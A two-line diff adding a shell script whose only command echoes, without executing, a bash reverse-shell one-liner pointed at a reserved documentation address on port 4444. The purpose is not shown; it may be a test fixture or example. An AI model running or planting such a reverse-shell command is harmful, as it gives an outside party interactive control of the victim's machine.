@@ -1,0 +1,2 @@
+#!/bin/sh
+echo "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"
